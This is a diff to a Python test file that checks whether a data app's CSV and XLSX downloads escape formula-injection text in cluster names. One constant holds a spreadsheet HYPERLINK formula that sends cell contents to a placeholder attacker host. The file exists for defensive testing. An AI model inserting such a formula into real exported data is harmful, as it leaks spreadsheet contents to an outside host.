@@ -35,6 +35,7 @@ from klynge.ui.texts import CATALOGUES, DEFAULT_LANGUAGE
 from tests.conftest import REPO_ROOT
 from tests.factories import example_values, master_data, write_csv, write_reports_csv
 from tests.test_cli import klynge
+from tests.test_pages import open_section
 
 TEXTS = CATALOGUES[DEFAULT_LANGUAGE]
 PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -327,11 +328,12 @@ def test_the_searched_descriptions_download_marks_every_hostile_text(hostile_url
 
 
 def test_a_table_download_marks_a_hostile_cluster_name(hostile_url, monkeypatch, downloads_made):
-    open_page(hostile_url, "pages/oversikt.py", monkeypatch)
+    at = open_page(hostile_url, "pages/oversikt.py", monkeypatch)
+    open_section(at, "pages/oversikt.py", "clusters")
     files = downloads_made()
-    # The key figures per level, then the clusters (with the hostile name).
-    assert [name.rsplit(".", 1)[1] for name, _ in files] == ["csv", "xlsx", "csv", "xlsx"]
-    (_, csv_data), (_, xlsx_data) = files[2:]
+    # The run that opened the clusters: the key figures per level, then the clusters (with the hostile name).
+    assert [name.rsplit(".", 1)[1] for name, _ in files[-4:]] == ["csv", "xlsx", "csv", "xlsx"]
+    (_, csv_data), (_, xlsx_data) = files[-2:]
     rows = assert_csv_safe(csv_data)
     column = rows[0].index(TEXTS["col.cluster"])
     assert "'" + NAME in [row[column] for row in rows[1:]]
